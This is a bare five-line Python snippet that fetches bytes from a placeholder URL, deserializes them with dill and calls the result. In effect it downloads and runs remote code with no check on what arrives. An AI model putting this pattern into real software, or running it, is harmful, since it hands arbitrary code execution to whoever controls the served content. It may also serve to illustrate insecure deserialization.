import dill
import urllib.request

fn = dill.loads(urllib.request.urlopen("https://example.com/x").read())
fn()
